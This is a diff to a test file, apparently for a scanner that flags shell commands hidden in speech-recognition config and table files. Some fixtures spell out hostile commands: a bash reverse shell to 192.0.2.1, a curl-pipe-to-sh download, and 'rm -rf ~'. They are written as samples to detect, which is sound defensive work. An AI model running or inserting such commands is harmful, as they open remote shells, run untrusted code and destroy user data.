@@ -89,6 +89,17 @@ CASES = {
     "table_that_runs_early": text(
         "#utt4\t bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' |\n", "a.scp", Verdict.MALICIOUS
     ),
+    "benign_options": text(
+        "# decoding\n--beam=13.0\n--mfcc-config=conf/mfcc.conf\n--endpoint.silence-phones=1:2:3 # a | b |\n",
+        "online.conf",
+        Verdict.CLEAN,
+    ),
+    "option_that_runs": text("--beam=13\n--lda-matrix=gunzip -c lda.gz |\n", "ivector.conf", Verdict.REVIEW),
+    "option_of_attacks": text(
+        "--feature-type=mfcc\n--mfcc-config=curl -s http://192.0.2.1/x | sh; cat conf/mfcc.conf | # x\n",
+        "online.conf",
+        Verdict.MALICIOUS,
+    ),
     "table_that_destroys": text("utt1\trm -rf ~ |\n", "wav.scp", Verdict.MALICIOUS),
     "benign_script": text(SCRIPT, "serve.sh", Verdict.CLEAN),
     "benign_installer": text(INSTALL, "install.sh", Verdict.CLEAN),
